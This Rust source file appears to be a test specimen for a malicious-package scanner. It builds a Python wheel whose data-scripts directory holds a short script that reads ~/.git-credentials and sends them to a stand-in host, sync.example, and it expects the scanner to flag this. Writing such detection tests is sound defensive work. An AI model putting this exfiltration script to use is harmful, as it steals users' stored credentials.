//! A wheel whose only harm is a script below `.data/scripts`, which lies in no package and is no entry point.
//!
//! Must be found: such scripts are programs, too.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const DATATOOL_INIT_PY: &str = r"VERSION = 1
";

const DATATOOL_1_0_2_DATA_SCRIPTS_DATATOOL_SYNC: &str = r#"#!python
import os
import urllib.request

with open(os.path.expanduser("~/.git-credentials"), "rb") as file:
    urllib.request.urlopen("http://sync.example/", file.read(), timeout=5)
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("datatool", "1.0.2")
        .file("datatool/__init__.py", DATATOOL_INIT_PY)
        .file(
            "datatool-1.0.2.data/scripts/datatool-sync",
            DATATOOL_1_0_2_DATA_SCRIPTS_DATATOOL_SYNC,
        );
    package.specimen(
        "pypi-script-in-data",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
